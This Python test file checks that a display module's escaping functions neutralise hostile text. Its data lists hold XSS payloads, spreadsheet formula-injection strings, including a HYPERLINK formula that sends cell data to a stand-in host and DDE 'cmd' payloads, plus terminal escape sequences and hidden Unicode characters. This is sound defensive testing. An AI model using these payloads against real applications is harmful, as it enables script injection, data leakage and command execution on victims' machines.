"""Trace text at the door: the attacks that broke other tools, and what must hold for any text."""

import csv
import io
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workbench.boundaries.display import escape, escape_attribute, shorten, spreadsheet, visible

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</script><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!--><img src=x onerror=alert(1)-->",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<style>@import '//evil.example'</style>",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "  =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
]
HIDDEN = {
    "ESC": "\x1b",
    "bell": "\x07",
    "NUL": "\x00",
    "delete": "\x7f",
    "C1 control sequence introducer": "\x9b",
    "carriage return": "\r",
    "line separator": "\u2028",
    "right-to-left override": "\u202e",
    "first strong isolate": "\u2068",
    "Arabic letter mark": "\u061c",
    "zero-width space": "\u200b",
    "zero-width joiner": "\u200d",
    "word joiner": "\u2060",
    "byte order mark": "\ufeff",
    "soft hyphen": "\u00ad",
    "tag letter": "\U000e0061",
    "variation selector 17": "\U000e0100",
    "variation selector after a letter": "\ufe0f",
    "Hangul filler": "\u3164",
    "blank Braille": "\u2800",
    "grapheme joiner": "\u034f",
    "lone surrogate": "\ud800",
    "private use": "\ue000",
    "no character": "\uffff",
}
TEXTS = st.text(st.characters(codec=None)) | st.text(
    st.sampled_from("aé <>&\"'$\\\r\n\t\x1b\u202e\u0301\u200d\ufe0f❤⟨=…\ud800")
)


class _Page(HTMLParser):
    """Read HTML as a browser would: which elements and attributes there are, and which text is seen."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.words: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.words.append(data)


@pytest.mark.parametrize("attack", MARKUP)
def test_markup_is_shown_and_never_read(attack: str) -> None:
    page = _Page(f"<td>{escape(attack)}</td>")
    assert page.elements == [("td", [])]
    assert "".join(page.words) == attack


def test_the_reader_of_these_tests_does_see_raw_markup() -> None:
    """The control: without the door the same reader finds the element."""
    assert [tag for tag, _ in _Page(f"<td>{MARKUP[1]}</td>").elements] == ["td", "img"]


@pytest.mark.parametrize("attack", MARKUP)
@pytest.mark.parametrize("quote", ['"', "'"])
def test_an_attribute_is_not_left(attack: str, quote: str) -> None:
    page = _Page(f"<td title={quote}{escape_attribute(attack)}{quote}>")
    assert page.elements == [("td", [("title", attack)])]


@given(TEXTS)
def test_any_text_adds_no_element_but_bare_spans(text: str) -> None:
    page = _Page(escape(text))
    assert all(element == ("span", []) for element in page.elements)
    assert "".join(page.words) == visible(text, keep="\n\t")


@pytest.mark.parametrize(
    "attack",
    [r"$\href{javascript:alert(1)}{x}$", r"\(\require{html}\)", r"$$\style{position:fixed}{x}$$", r"\begin{a}\end{a}"],
)
def test_mathematics_is_not_set(attack: str) -> None:
    r"""A typesetter looks for delimiters in the text of one element: none has two `$`, or `\` and what follows."""
    for words in _Page(escape(attack)).words:
        assert words in {"$", "\\"} or not {"$", "\\"} & set(words)


@pytest.mark.parametrize("name", HIDDEN)
def test_every_hidden_character_has_a_marker(name: str) -> None:
    character = HIDDEN[name]
    marker = f"⟨U+{ord(character):04X}⟩"
    assert visible(f"a{character}b") == f"a{marker}b"
    assert escape(f"a{character}b") == f"a{marker}b"


def test_a_terminal_is_sent_no_command() -> None:
    """Colours, a link that lies (OSC 8), the clipboard (OSC 52), a title: nothing of them is left but words."""
    for command in (
        "\x1b[2J",
        "\x1b]8;;http://evil.example\x07safe\x1b]8;;\x07",
        "\x1b]52;c;ZXZpbA==\x07",
        "\x9b2J",
        "\x1b]0;title\x07",
    ):
        assert all(unicodedata.category(character) not in {"Cc", "Cf"} for character in visible(command))


def test_a_log_line_stays_one_line() -> None:
    assert visible("ok\nERROR all is lost\r\n") == "ok⟨U+000A⟩ERROR all is lost⟨U+000D⟩⟨U+000A⟩"


def test_lines_stay_where_they_are_wanted() -> None:
    assert visible("one\r\ntwo\tx", keep="\n\t") == "one\ntwo\tx"
    assert visible("one\rtwo", keep="\n") == "one⟨U+000D⟩two"
    assert escape("one\ntwo") == "one\ntwo"


@pytest.mark.parametrize(
    "text", ["Müller", "判決", "ŵãã́", "שָׁלוֹם", "5 €", "👍🏽 great", "❤️", "a b", "№ 7 — “quoted”", ""]
)
def test_ordinary_words_of_any_language_are_unchanged(text: str) -> None:
    assert visible(text) == text


def test_a_stack_of_marks_is_cut_and_counted() -> None:
    assert visible("Z" + "\u0301" * 40 + "a") == "Z" + "\u0301" * 4 + "⟨+36 marks⟩a"


@given(TEXTS)
def test_nothing_hidden_is_left_and_a_second_time_changes_nothing(text: str) -> None:
    shown = visible(text)
    assert visible(shown) == shown
    hidden = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
    assert not hidden & {unicodedata.category(character) for character in shown}
    shown.encode()


def test_a_long_text_is_cut_with_an_ellipsis() -> None:
    assert shorten("abcdef", 4) == "abc…"
    assert shorten("abcd", 4) == "abcd"
    assert shorten("abcd", 1) == "…"


@given(TEXTS, st.integers(1, 30))
def test_no_text_is_longer_than_its_limit(text: str, limit: int) -> None:
    assert len(shorten(text, limit)) <= limit
    assert shorten(shorten(text, limit), limit) == shorten(text, limit)


def test_a_limit_without_room_is_refused() -> None:
    with pytest.raises(ValueError, match="limit == 0"):
        shorten("a", 0)


@pytest.mark.parametrize("attack", FORMULAS)
def test_a_spreadsheet_runs_no_formula(attack: str) -> None:
    guarded = spreadsheet(attack)
    assert guarded == f"'{attack}"
    assert spreadsheet(guarded) == guarded
    line = io.StringIO()
    csv.writer(line).writerow([guarded])
    assert next(csv.reader(io.StringIO(line.getvalue(), newline=""))) == [guarded]


@pytest.mark.parametrize("text", ["", "wrong court", "1+1=2", "a@b.example", "'=1", " "])
def test_other_cells_are_unchanged(text: str) -> None:
    assert spreadsheet(text) == text
